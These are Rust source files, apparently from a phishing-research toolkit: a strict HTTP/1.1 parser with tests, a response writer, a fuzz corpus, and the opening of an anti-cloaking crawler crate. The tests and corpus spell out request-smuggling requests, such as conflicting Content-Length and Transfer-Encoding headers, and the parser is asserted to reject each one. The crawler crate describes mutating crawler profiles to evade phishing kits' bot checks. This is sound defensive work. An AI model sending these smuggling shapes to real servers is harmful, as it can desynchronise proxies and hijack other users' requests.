    /// Cap on the whole head (request line + headers + blank line).
    pub max_head_bytes: usize,
    /// Maximum number of header fields.
    pub max_headers: usize,
    /// Maximum accepted body size (fixed-length or de-chunked).
    pub max_body: usize,
}

impl Default for Limits {
    fn default() -> Limits {
        Limits {
            max_start_line: 8 * 1024,
            max_head_bytes: 32 * 1024,
            max_headers: 128,
            max_body: 8 * 1024 * 1024,
        }
    }
}

/// Why a request failed to parse; maps onto the response status.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseError {
    /// Malformed syntax, smuggling-shaped framing, folded headers… → 400.
    BadRequest(&'static str),
    /// Request line exceeds [`Limits::max_start_line`] → 414.
    UriTooLong,
    /// Head exceeds [`Limits::max_head_bytes`] or [`Limits::max_headers`] → 431.
    HeadersTooLarge,
    /// Declared or de-chunked body exceeds [`Limits::max_body`] → 413.
    PayloadTooLarge,
    /// A `Transfer-Encoding` this server does not implement → 501.
    NotImplemented(&'static str),
    /// An HTTP version other than 1.0/1.1 → 505.
    VersionNotSupported,
}

impl ParseError {
    /// The response status code this error answers with.
    pub fn status(&self) -> u16 {
        match self {
            ParseError::BadRequest(_) => 400,
            ParseError::UriTooLong => 414,
            ParseError::HeadersTooLarge => 431,
            ParseError::PayloadTooLarge => 413,
            ParseError::NotImplemented(_) => 501,
            ParseError::VersionNotSupported => 505,
        }
    }

    /// Short human-readable reason for the error body.
    pub fn reason(&self) -> &'static str {
        match self {
            ParseError::BadRequest(r) => r,
            ParseError::UriTooLong => "request line too long",
            ParseError::HeadersTooLarge => "headers too large",
            ParseError::PayloadTooLarge => "body too large",
            ParseError::NotImplemented(r) => r,
            ParseError::VersionNotSupported => "http version not supported",
        }
    }
}

/// One parsed request. Header names are lowercased; values have
/// surrounding whitespace trimmed.
#[derive(Debug, Clone)]
pub struct Request {
    /// The method token, as sent (`GET`, `POST`, …).
    pub method: String,
    /// The origin-form request target (`/path?query`).
    pub target: String,
    /// HTTP minor version: 0 for 1.0, 1 for 1.1.
    pub minor_version: u8,
    /// Header fields in arrival order, names lowercased.
    pub headers: Vec<(String, String)>,
    /// The (de-chunked) body bytes.
    pub body: Vec<u8>,
}

impl Request {
    /// First value of header `name` (case-insensitive).
    pub fn header(&self, name: &str) -> Option<&str> {
        let name = name.to_ascii_lowercase();
        self.headers.iter().find(|(k, _)| *k == name).map(|(_, v)| v.as_str())
    }

    /// The target's path, without the query string.
    pub fn path(&self) -> &str {
        match self.target.split_once('?') {
            Some((p, _)) => p,
            None => &self.target,
        }
    }

    /// The target's query string, if any (without the `?`).
    pub fn query(&self) -> Option<&str> {
        self.target.split_once('?').map(|(_, q)| q)
    }

    /// One `key=value` pair from the query string.
    pub fn query_param(&self, key: &str) -> Option<&str> {
        self.query()?
            .split('&')
            .filter_map(|kv| kv.split_once('='))
            .find(|(k, _)| *k == key)
            .map(|(_, v)| v)
    }

    /// Whether the connection should stay open after this request:
    /// HTTP/1.1 defaults to keep-alive unless `Connection: close`;
    /// HTTP/1.0 requires an explicit `Connection: keep-alive`.
    pub fn keep_alive(&self) -> bool {
        let conn = self.header("connection").unwrap_or("").to_ascii_lowercase();
        if self.minor_version >= 1 {
            !conn.split(',').any(|t| t.trim() == "close")
        } else {
            conn.split(',').any(|t| t.trim() == "keep-alive")
        }
    }
}

/// Whether `b` is an RFC 9110 `tchar` (legal in method and header names).
fn is_token_byte(b: u8) -> bool {
    matches!(b,
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9'
        | b'!' | b'#' | b'$' | b'%' | b'&' | b'\'' | b'*' | b'+' | b'-' | b'.'
        | b'^' | b'_' | b'`' | b'|' | b'~')
}

/// Find the end of the line starting at `from`: returns
/// `(line_without_terminator, next_offset)` or `None` if no `\n` yet.
/// Accepts both CRLF and bare-LF terminators (robustness; RFC 9112 §2.2).
fn take_line(buf: &[u8], from: usize) -> Option<(&[u8], usize)> {
    let rest = buf.get(from..)?;
    let nl = rest.iter().position(|&b| b == b'\n')?;
    let mut line = &rest[..nl];
    if let [head @ .., b'\r'] = line {
        line = head;
    }
    Some((line, from + nl + 1))
}

/// Split and validate the request line.
fn parse_request_line(
    line: &[u8],
    limits: &Limits,
) -> Result<(String, String, u8), ParseError> {
    if line.len() > limits.max_start_line {
        return Err(ParseError::UriTooLong);
    }
    let text = std::str::from_utf8(line)
        .map_err(|_| ParseError::BadRequest("request line is not utf-8"))?;
    let mut parts = text.split(' ');
    let (method, target, version) = match (parts.next(), parts.next(), parts.next(), parts.next())
    {
        (Some(m), Some(t), Some(v), None) => (m, t, v),
        _ => return Err(ParseError::BadRequest("malformed request line")),
    };
    if method.is_empty() || !method.bytes().all(is_token_byte) {
        return Err(ParseError::BadRequest("malformed method"));
    }
    if !(target.starts_with('/') || target == "*") {
        return Err(ParseError::BadRequest("request target must be origin-form"));
    }
    let minor = match version {
        "HTTP/1.1" => 1,
        "HTTP/1.0" => 0,
        v if v.starts_with("HTTP/") => return Err(ParseError::VersionNotSupported),
        _ => return Err(ParseError::BadRequest("malformed http version")),
    };
    Ok((method.to_string(), target.to_string(), minor))
}

/// Parse one header line into `(lowercased name, trimmed value)`.
fn parse_header_line(line: &[u8]) -> Result<(String, String), ParseError> {
    let text =
        std::str::from_utf8(line).map_err(|_| ParseError::BadRequest("header is not utf-8"))?;
    let (name, value) =
        text.split_once(':').ok_or(ParseError::BadRequest("header without a colon"))?;
    // RFC 9112 §5.1: no whitespace between the field name and the colon
    // (a classic smuggling vector across disagreeing parsers).
    if name.is_empty() || !name.bytes().all(is_token_byte) {
        return Err(ParseError::BadRequest("malformed header name"));
    }
    Ok((name.to_ascii_lowercase(), value.trim_matches([' ', '\t']).to_string()))
}

/// How the body is framed, decided from the parsed headers.
enum BodyFraming {
    None,
    Fixed(usize),
    Chunked,
}

/// Apply RFC 9112 §6 message-body rules, strictly.
fn body_framing(headers: &[(String, String)], limits: &Limits) -> Result<BodyFraming, ParseError> {
    let lengths: Vec<&str> =
        headers.iter().filter(|(k, _)| k == "content-length").map(|(_, v)| v.as_str()).collect();
    let encodings: Vec<&str> = headers
        .iter()
        .filter(|(k, _)| k == "transfer-encoding")
        .map(|(_, v)| v.as_str())
        .collect();

    if !encodings.is_empty() {
        if !lengths.is_empty() {
            // The smuggling-shaped conflict: reject, never reconcile.
            return Err(ParseError::BadRequest("content-length with transfer-encoding"));
        }
        if encodings.len() > 1 || !encodings[0].trim().eq_ignore_ascii_case("chunked") {
            return Err(ParseError::NotImplemented("unsupported transfer-encoding"));
        }
        return Ok(BodyFraming::Chunked);
    }
    match lengths.as_slice() {
        [] => Ok(BodyFraming::None),
        [one] => {
            if one.is_empty() || !one.bytes().all(|b| b.is_ascii_digit()) {
                return Err(ParseError::BadRequest("malformed content-length"));
            }
            let n: usize = one
                .parse()
                .map_err(|_| ParseError::BadRequest("content-length out of range"))?;
            if n > limits.max_body {
                return Err(ParseError::PayloadTooLarge);
            }
            Ok(BodyFraming::Fixed(n))
        }
        // Repeated Content-Length headers: reject even when they agree.
        _ => Err(ParseError::BadRequest("repeated content-length")),
    }
}

/// Decode a chunked body starting at `from`. Returns `Ok(None)` while
/// incomplete, otherwise the body and the offset just past the final CRLF.
fn decode_chunked(
    buf: &[u8],
    from: usize,
    limits: &Limits,
) -> Result<Option<(Vec<u8>, usize)>, ParseError> {
    let mut body = Vec::new();
    let mut at = from;
    loop {
        let Some((size_line, after_size)) = take_line(buf, at) else { return Ok(None) };
        // Chunk extensions (";ext=val") are tolerated and ignored.
        let size_text = size_line.split(|&b| b == b';').next().unwrap_or(b"");
        let size_text = std::str::from_utf8(size_text)
            .map_err(|_| ParseError::BadRequest("malformed chunk size"))?
            .trim();
        if size_text.is_empty() || size_text.len() > 8 {
            return Err(ParseError::BadRequest("malformed chunk size"));
        }
        let size = usize::from_str_radix(size_text, 16)
            .map_err(|_| ParseError::BadRequest("malformed chunk size"))?;
        if body.len().saturating_add(size) > limits.max_body {
            return Err(ParseError::PayloadTooLarge);
        }
        if size == 0 {
            // Trailer section: skip header-shaped lines up to the blank.
            let mut t = after_size;
            loop {
                let Some((line, next)) = take_line(buf, t) else { return Ok(None) };
                if line.is_empty() {
                    return Ok(Some((body, next)));
                }
                parse_header_line(line)?;
                if next - from > limits.max_head_bytes {
                    return Err(ParseError::HeadersTooLarge);
                }
                t = next;
            }
        }
        let data_end = after_size + size;
        let Some(data) = buf.get(after_size..data_end) else { return Ok(None) };
        // The chunk data must be followed by its own CRLF.
        let Some((crlf, next)) = take_line(buf, data_end) else { return Ok(None) };
        if !crlf.is_empty() {
            return Err(ParseError::BadRequest("chunk data not followed by crlf"));
        }
        body.extend_from_slice(data);
        at = next;
    }
}

/// Try to parse one complete request from the front of `buf`.
///
/// Returns `Ok(Some((request, consumed)))` when a full request is
/// available, `Ok(None)` when more bytes are needed, and `Err` when the
/// bytes already received can never become a valid request.
///
/// # Errors
///
/// A [`ParseError`] naming the response status (4xx/501/505) to send.
pub fn parse_request(
    buf: &[u8],
    limits: &Limits,
) -> Result<Option<(Request, usize)>, ParseError> {
    // Request line.
    let Some((line, mut at)) = take_line(buf, 0) else {
        // Not even one full line yet: bound how long we will wait for one.
        if buf.len() > limits.max_start_line {
            return Err(ParseError::UriTooLong);
        }
        return Ok(None);
    };
    let (method, target, minor_version) = parse_request_line(line, limits)?;

    // Header block.
    let mut headers: Vec<(String, String)> = Vec::new();
    loop {
        if at > limits.max_head_bytes {
            return Err(ParseError::HeadersTooLarge);
        }
        let Some((line, next)) = take_line(buf, at) else {
            if buf.len() > limits.max_head_bytes {
                return Err(ParseError::HeadersTooLarge);
            }
            return Ok(None);
        };
        at = next;
        if line.is_empty() {
            break;
        }
        if line[0] == b' ' || line[0] == b'\t' {
            // Obsolete line folding: reject rather than unfold (RFC 9112 §5.2).
            return Err(ParseError::BadRequest("folded header"));
        }
        if headers.len() >= limits.max_headers {
            return Err(ParseError::HeadersTooLarge);
        }
        headers.push(parse_header_line(line)?);
    }

    // Body.
    let (body, consumed) = match body_framing(&headers, limits)? {
        BodyFraming::None => (Vec::new(), at),
        BodyFraming::Fixed(n) => match buf.get(at..at + n) {
            Some(data) => (data.to_vec(), at + n),
            None => return Ok(None),
        },
        BodyFraming::Chunked => match decode_chunked(buf, at, limits)? {
            Some((body, end)) => (body, end),
            None => return Ok(None),
        },
    };
    Ok(Some((Request { method, target, minor_version, headers, body }, consumed)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(bytes: &[u8]) -> Result<Option<(Request, usize)>, ParseError> {
        parse_request(bytes, &Limits::default())
    }

    fn must(bytes: &[u8]) -> (Request, usize) {
        parse(bytes).expect("parse ok").expect("complete")
    }

    #[test]
    fn parses_simple_get() {
        let (req, used) = must(b"GET /health?mode=full HTTP/1.1\r\nHost: x\r\n\r\n");
        assert_eq!(req.method, "GET");
        assert_eq!(req.path(), "/health");
        assert_eq!(req.query_param("mode"), Some("full"));
        assert_eq!(req.header("host"), Some("x"));
        assert!(req.keep_alive());
        assert_eq!(used, b"GET /health?mode=full HTTP/1.1\r\nHost: x\r\n\r\n".len());
    }

    #[test]
    fn parses_fixed_length_body_and_pipelines() {
        let wire = b"POST /ingest HTTP/1.1\r\nContent-Length: 5\r\n\r\nhelloGET / HTTP/1.1\r\n\r\n";
        let (req, used) = must(wire);
        assert_eq!(req.body, b"hello");
        let (second, _) = must(&wire[used..]);
        assert_eq!(second.method, "GET");
    }

    #[test]
    fn parses_chunked_body_with_extensions_and_trailers() {
        let wire = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n\
                     5;ext=1\r\nhello\r\n6\r\n world\r\n0\r\nX-Trailer: t\r\n\r\n";
        let (req, used) = must(wire);
        assert_eq!(req.body, b"hello world");
        assert_eq!(used, wire.len());
    }

    #[test]
    fn incomplete_requests_ask_for_more() {
        for wire in [
            &b"GET / HT"[..],
            b"GET / HTTP/1.1\r\nHost: x\r\n",
            b"POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nhal",
            b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhel",
        ] {
            assert!(matches!(parse(wire), Ok(None)), "{:?}", String::from_utf8_lossy(wire));
        }
    }

    #[test]
    fn smuggling_shapes_are_rejected() {
        let cl_te = b"POST / HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
        assert_eq!(parse(cl_te).unwrap_err().status(), 400);
        let dup = b"POST / HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello";
        assert_eq!(parse(dup).unwrap_err().status(), 400);
        let list = b"POST / HTTP/1.1\r\nContent-Length: 5, 5\r\n\r\nhello";
        assert_eq!(parse(list).unwrap_err().status(), 400);
        let signed = b"POST / HTTP/1.1\r\nContent-Length: +5\r\n\r\nhello";
        assert_eq!(parse(signed).unwrap_err().status(), 400);
        let gzip = b"POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n";
        assert_eq!(parse(gzip).unwrap_err().status(), 501);
        let spaced = b"GET / HTTP/1.1\r\nHost : x\r\n\r\n";
        assert_eq!(parse(spaced).unwrap_err().status(), 400);
        let folded = b"GET / HTTP/1.1\r\nHost: x\r\n cont\r\n\r\n";
        assert_eq!(parse(folded).unwrap_err().status(), 400);
    }

    #[test]
    fn limits_are_enforced() {
        let long_line = [b"GET /".as_slice(), &vec![b'a'; 9000], b" HTTP/1.1\r\n\r\n"].concat();
        assert_eq!(parse(&long_line).unwrap_err(), ParseError::UriTooLong);
        // An unterminated start line longer than the limit fails early.
        assert_eq!(parse(&vec![b'a'; 9000]).unwrap_err(), ParseError::UriTooLong);

        let mut many = b"GET / HTTP/1.1\r\n".to_vec();
        for i in 0..200 {
            many.extend_from_slice(format!("X-H{i}: v\r\n").as_bytes());
        }
        many.extend_from_slice(b"\r\n");
        assert_eq!(parse(&many).unwrap_err(), ParseError::HeadersTooLarge);

        let huge = b"POST / HTTP/1.1\r\nContent-Length: 999999999\r\n\r\n";
        assert_eq!(parse(huge).unwrap_err(), ParseError::PayloadTooLarge);

        let chunked_huge =
            b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFF0\r\n";
        assert_eq!(parse(chunked_huge).unwrap_err(), ParseError::PayloadTooLarge);
    }

    #[test]
    fn version_and_form_rules() {
        assert_eq!(parse(b"GET / HTTP/2.0\r\n\r\n").unwrap_err().status(), 505);
        assert_eq!(parse(b"GET / FTP/1.0\r\n\r\n").unwrap_err().status(), 400);
        assert_eq!(parse(b"GET http://x/ HTTP/1.1\r\n\r\n").unwrap_err().status(), 400);
        assert_eq!(parse(b"GET  / HTTP/1.1\r\n\r\n").unwrap_err().status(), 400);
        let (req, _) = must(b"GET / HTTP/1.0\r\n\r\n");
        assert!(!req.keep_alive(), "HTTP/1.0 defaults to close");
        let (req, _) = must(b"GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n");
        assert!(req.keep_alive());
        let (req, _) = must(b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n");
        assert!(!req.keep_alive());
    }

    #[test]
    fn bare_lf_line_endings_are_tolerated() {
        let (req, _) = must(b"GET /x HTTP/1.1\nHost: y\n\n");
        assert_eq!(req.path(), "/x");
        assert_eq!(req.header("host"), Some("y"));
    }
}
