//! Response construction and serialization.

use std::io::{self, Write};

/// A response under construction. `Content-Length` and `Connection` are
/// always emitted by [`Response::write_to`]; other headers are optional.
#[derive(Debug, Clone)]
pub struct Response {
    /// Status code.
    pub status: u16,
    /// Extra headers (`Content-Type` etc.), in emit order.
    pub headers: Vec<(String, String)>,
    /// Body bytes.
    pub body: Vec<u8>,
}

impl Response {
    /// An empty response with `status`.
    pub fn new(status: u16) -> Response {
        Response { status, headers: Vec::new(), body: Vec::new() }
    }

    /// A `text/plain` response.
    pub fn text(status: u16, body: impl Into<String>) -> Response {
        Response::new(status)
            .with_header("Content-Type", "text/plain; charset=utf-8")
            .with_body(body.into().into_bytes())
    }

    /// An `application/json` response.
    pub fn json(status: u16, body: impl Into<String>) -> Response {
        Response::new(status)
            .with_header("Content-Type", "application/json")
            .with_body(body.into().into_bytes())
    }

    /// Add a header.
    pub fn with_header(mut self, name: &str, value: &str) -> Response {
        self.headers.push((name.to_string(), value.to_string()));
        self
    }

    /// Set the body.
    pub fn with_body(mut self, body: Vec<u8>) -> Response {
        self.body = body;
        self
    }

    /// The standard reason phrase for `status`.
    pub fn reason_phrase(status: u16) -> &'static str {
        match status {
            200 => "OK",
            202 => "Accepted",
            400 => "Bad Request",
            404 => "Not Found",
            405 => "Method Not Allowed",
            408 => "Request Timeout",
            413 => "Content Too Large",
            414 => "URI Too Long",
            429 => "Too Many Requests",
            431 => "Request Header Fields Too Large",
            500 => "Internal Server Error",
            501 => "Not Implemented",
            503 => "Service Unavailable",
            505 => "HTTP Version Not Supported",
            _ => "Unknown",
        }
    }

    /// Serialize onto `w` as an HTTP/1.1 response.
    ///
    /// # Errors
    ///
    /// Propagates write failures (the connection is torn down anyway).
    pub fn write_to(&self, keep_alive: bool, w: &mut impl Write) -> io::Result<()> {
        let mut head = format!(
            "HTTP/1.1 {} {}\r\nContent-Length: {}\r\nConnection: {}\r\n",
            self.status,
            Response::reason_phrase(self.status),
            self.body.len(),
            if keep_alive { "keep-alive" } else { "close" },
        );
        for (name, value) in &self.headers {
            head.push_str(name);
            head.push_str(": ");
            head.push_str(value);
            head.push_str("\r\n");
        }
        head.push_str("\r\n");
        w.write_all(head.as_bytes())?;
        w.write_all(&self.body)?;
        w.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn serializes_status_headers_and_framing() {
        let mut out = Vec::new();
        Response::json(202, "{\"ok\":true}").write_to(true, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.starts_with("HTTP/1.1 202 Accepted\r\n"));
        assert!(text.contains("Content-Length: 11\r\n"));
        assert!(text.contains("Connection: keep-alive\r\n"));
        assert!(text.contains("Content-Type: application/json\r\n"));
        assert!(text.ends_with("\r\n\r\n{\"ok\":true}"));

        let mut out = Vec::new();
        Response::new(404).write_to(false, &mut out).unwrap();
        assert!(String::from_utf8(out).unwrap().contains("Connection: close"));
    }
}
