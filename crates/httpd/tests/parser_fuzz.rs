//! Property tests and a fixed fuzz corpus for the HTTP/1.1 parser: on any
//! input, the parser returns `Ok(Some(..))`, `Ok(None)` or a 4xx/501/505
//! `ParseError` — it never panics, and malformed requests never parse.
//!
//! The request path is panic-free by construction (no indexing without
//! bounds, no unwraps on wire data); these tests are the audit that keeps
//! it that way without a `catch_unwind` net.

use cb_httpd::request::{parse_request, Limits, ParseError};
use proptest::prelude::*;

fn small_limits() -> Limits {
    Limits { max_start_line: 256, max_head_bytes: 1024, max_headers: 16, max_body: 4096 }
}

/// The curated fuzz corpus: every historically nasty shape we reject, and
/// the status each must map to. Growing this list is how parser fixes get
/// pinned as regressions.
const REJECT_CORPUS: &[(&[u8], u16)] = &[
    // Smuggling-shaped framing conflicts.
    (b"POST / HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n", 400),
    (b"POST / HTTP/1.1\r\nContent-Length: 4\r\nContent-Length: 4\r\n\r\nabcd", 400),
    (b"POST / HTTP/1.1\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcd", 400),
    (b"POST / HTTP/1.1\r\nContent-Length: 4, 4\r\n\r\nabcd", 400),
    (b"POST / HTTP/1.1\r\nContent-Length: +4\r\n\r\nabcd", 400),
    (b"POST / HTTP/1.1\r\nContent-Length: 0x4\r\n\r\nabcd", 400),
    (b"POST / HTTP/1.1\r\nContent-Length: 4abc\r\n\r\nabcd", 400),
    (b"POST / HTTP/1.1\r\nContent-Length: -1\r\n\r\n", 400),
    // Transfer codings we refuse to guess about.
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n", 501),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked, gzip\r\n\r\n", 501),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n", 501),
    // Obsolete folding and whitespace games.
    (b"GET / HTTP/1.1\r\nHost: a\r\n b\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\nHost: a\r\n\tb\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\nHost : a\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\n: novalue\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\nBad Header: x\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\nnocolon\r\n\r\n", 400),
    // Request-line shapes.
    (b"GET  / HTTP/1.1\r\n\r\n", 400),
    (b"GET / HTTP/1.1 extra\r\n\r\n", 400),
    (b"GET http://evil/ HTTP/1.1\r\n\r\n", 400),
    (b"GET relative HTTP/1.1\r\n\r\n", 400),
    (b"G@T / HTTP/1.1\r\n\r\n", 400),
    (b" / HTTP/1.1\r\n\r\n", 400),
    (b"GET / HTTP/2.0\r\n\r\n", 505),
    (b"GET / HTTP/1.2\r\n\r\n", 505),
    (b"GET / SMTP/1.1\r\n\r\n", 400),
    // Chunked-body corruption.
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", 400),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhelloX\r\n0\r\n\r\n", 400),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFF\r\n", 413),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n123456789\r\n", 400),
];

#[test]
fn reject_corpus_maps_to_expected_statuses() {
    for (wire, status) in REJECT_CORPUS {
        match parse_request(wire, &Limits::default()) {
            Err(e) => assert_eq!(
                e.status(),
                *status,
                "wire {:?} expected {status}, got {e:?}",
                String::from_utf8_lossy(wire)
            ),
            other => panic!(
                "wire {:?} must be rejected, got {other:?}",
                String::from_utf8_lossy(wire)
            ),
        }
    }
}

#[test]
fn oversized_inputs_map_to_bounded_statuses() {
    let limits = small_limits();
    let long_uri = [b"GET /".as_slice(), &vec![b'a'; 500], b" HTTP/1.1\r\n\r\n"].concat();
    assert_eq!(parse_request(&long_uri, &limits), Err(ParseError::UriTooLong));

    let mut heads = b"GET / HTTP/1.1\r\n".to_vec();
    for i in 0..64 {
        heads.extend_from_slice(format!("X-Pad-{i}: {}\r\n", "v".repeat(32)).as_bytes());
    }
    heads.extend_from_slice(b"\r\n");
    assert_eq!(parse_request(&heads, &limits), Err(ParseError::HeadersTooLarge));

    let body = b"POST / HTTP/1.1\r\nContent-Length: 5000\r\n\r\n".to_vec();
    assert_eq!(parse_request(&body, &limits), Err(ParseError::PayloadTooLarge));
}

proptest! {
    /// Arbitrary bytes: any outcome is fine, panicking is not.
    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let _ = parse_request(&bytes, &Limits::default());
        let _ = parse_request(&bytes, &small_limits());
    }

    /// Request-shaped inputs with arbitrary header values: still no panic,
    /// and any success must respect the body limit.
    #[test]
    fn header_shaped_inputs_never_panic(
        name in "[A-Za-z-]{1,16}",
        value in proptest::collection::vec(
            any::<u8>().prop_filter("header values cannot embed crlf", |b| *b != b'\r' && *b != b'\n'),
            0..128,
        ),
        body in proptest::collection::vec(any::<u8>(), 0..256),
    ) {
        let mut wire = Vec::new();
        wire.extend_from_slice(b"POST /ingest HTTP/1.1\r\n");
        wire.extend_from_slice(name.as_bytes());
        wire.extend_from_slice(b": ");
        wire.extend_from_slice(&value);
        wire.extend_from_slice(b"\r\n");
        wire.extend_from_slice(format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes());
        wire.extend_from_slice(&body);
        if let Ok(Some((req, consumed))) = parse_request(&wire, &Limits::default()) {
            prop_assert_eq!(req.body, body);
            prop_assert_eq!(consumed, wire.len());
        }
    }

    /// Well-formed requests round-trip exactly, whole or truncated: every
    /// strict prefix is `Ok(None)` or a reject, never a bogus success.
    #[test]
    fn well_formed_requests_parse_and_prefixes_stay_incomplete(
        path in "/[a-z0-9/]{0,24}",
        body in proptest::collection::vec(any::<u8>(), 0..512),
        cut in any::<prop::sample::Index>(),
    ) {
        let wire = [
            format!("POST {path} HTTP/1.1\r\nHost: test\r\nContent-Length: {}\r\n\r\n", body.len())
                .into_bytes(),
            body.clone(),
        ]
        .concat();
        let (req, consumed) = parse_request(&wire, &Limits::default())
            .expect("well-formed")
            .expect("complete");
        prop_assert_eq!(req.path(), path.as_str());
        prop_assert_eq!(req.body, body);
        prop_assert_eq!(consumed, wire.len());

        let cut = cut.index(wire.len().max(1));
        if cut < wire.len() {
            match parse_request(&wire[..cut], &Limits::default()) {
                Ok(Some((_, consumed))) => prop_assert!(consumed <= cut),
                Ok(None) | Err(_) => {}
            }
        }
    }

    /// Chunked bodies reassemble to the exact payload for any chunking.
    #[test]
    fn chunked_bodies_reassemble(
        payload in proptest::collection::vec(any::<u8>(), 1..512),
        splits in proptest::collection::vec(1usize..64, 0..8),
    ) {
        let mut wire = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
        let mut rest = payload.as_slice();
        for s in splits {
            if rest.is_empty() { break; }
            let take = s.min(rest.len());
            wire.extend_from_slice(format!("{take:x}\r\n").as_bytes());
            wire.extend_from_slice(&rest[..take]);
            wire.extend_from_slice(b"\r\n");
            rest = &rest[take..];
        }
        if !rest.is_empty() {
            wire.extend_from_slice(format!("{:x}\r\n", rest.len()).as_bytes());
            wire.extend_from_slice(rest);
            wire.extend_from_slice(b"\r\n");
        }
        wire.extend_from_slice(b"0\r\n\r\n");
        let (req, consumed) = parse_request(&wire, &Limits::default())
            .expect("well-formed")
            .expect("complete");
        prop_assert_eq!(req.body, payload);
        prop_assert_eq!(consumed, wire.len());
    }
}
