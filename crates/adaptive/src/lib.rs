#![warn(missing_docs)]

//! # cb-adaptive
//!
//! The adaptive anti-cloaking crawler: the defender's move in the
//! arms race (DESIGN.md §16, ROADMAP item 3).
//!
//! The paper's central finding is that modern phishing is *evasive*:
//! campaigns cloak behind bot checks and serve benign decoys to
//! fixed-profile crawlers. `crawlerbox` reproduces that hostile side —
//! `cb-phishkit` sites filter by User-Agent, IP class and challenge
//! attestation, and (since this crate landed) keep *counter-memory*:
//! per-egress-class reputation and returning-device blocklists that burn a
//! crawler profile after it de-cloaks a page. A fixed NotABot therefore
//! wins exactly once per campaign and never again.
//!
//! This crate closes the loop in the spirit of PhishParrot (PAPERS.md),
//! but deterministic and seed-reproducible instead of LLM-driven:
//!
//! * [`verdict`] — the verdict taxonomy: every supervised visit collapses
//!   to block page / benign decoy / fingerprint challenge / de-cloaked
//!   phish.
//! * [`arms`] — the structured arm space: UA family × IP egress class ×
//!   patience × interaction script, 32 concrete crawler profiles, each a
//!   mutation of NotABot.
//! * [`bandit`] — the seeded epsilon-greedy policy over that space, with
//!   a canonical probe sweep, a Laplace-smoothed champion, burn-aware
//!   rotation, and a per-campaign-family [`bandit::PolicyMemory`] that a
//!   [`cb_store::Store`] persists so a re-opened store *resumes* the race.
//! * [`experiment`] — the `repro adaptive` experiment: adaptive vs fixed
//!   NotABot over the cloaking-family grid, byte-identical across all
//!   three schedulers for a fixed seed.

pub mod arms;
pub mod bandit;
pub mod experiment;
pub mod verdict;

pub use arms::{canonical_probes, Arm, UaFamily};
pub use bandit::{ArmStats, Policy, PolicyMemory, RaceState};
pub use experiment::{families, AdaptiveConfig, AdaptiveReport, AdaptiveRun, CellOutcome};
pub use verdict::{classify, CloakVerdict};
