//! The cloaking-verdict taxonomy: what one supervised visit told the
//! adaptive crawler about the campaign's posture towards this profile.

use crawlerbox::VisitLog;
use cb_browser::engine::VisitOutcome;
use serde::{Deserialize, Serialize};

/// What a visit revealed. This is the bandit's reward signal: only
/// [`CloakVerdict::Uncloaked`] counts as a win, but the distinction
/// between the three failure modes is kept — it is forensic evidence
/// (which cloaking layer fired?) and it feeds the telemetry counters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub enum CloakVerdict {
    /// Nothing usable came back: transport failure, HTTP error, redirect
    /// loop, an exhausted visit budget, or an open circuit breaker.
    BlockPage,
    /// A page rendered, but it was the decoy: no credential form.
    BenignDecoy,
    /// The final page demands interaction this profile cannot perform —
    /// the challenge layer fired and was not satisfied.
    FingerprintChallenge,
    /// The credential-harvesting page itself: the campaign de-cloaked.
    Uncloaked,
}

impl CloakVerdict {
    /// Stable lowercase label (used in telemetry fields, counters and the
    /// experiment table).
    pub fn label(self) -> &'static str {
        match self {
            CloakVerdict::BlockPage => "block-page",
            CloakVerdict::BenignDecoy => "benign-decoy",
            CloakVerdict::FingerprintChallenge => "fingerprint-challenge",
            CloakVerdict::Uncloaked => "uncloaked",
        }
    }
}

/// Collapse a supervised visit into its cloaking verdict.
///
/// The login form is the ground truth for de-cloaking: a kit that decided
/// to serve the phish always renders the credential form (that is what a
/// phishing page *is*), and every decoy — benign page, holding page,
/// burned-profile page — does not.
pub fn classify(log: &VisitLog) -> CloakVerdict {
    if log.login_form {
        return CloakVerdict::Uncloaked;
    }
    match log.outcome {
        VisitOutcome::InteractionRequired => CloakVerdict::FingerprintChallenge,
        VisitOutcome::Loaded | VisitOutcome::Download => CloakVerdict::BenignDecoy,
        VisitOutcome::Unreachable
        | VisitOutcome::HttpError(_)
        | VisitOutcome::RedirectLoop
        | VisitOutcome::Timeout
        | VisitOutcome::NetError(_)
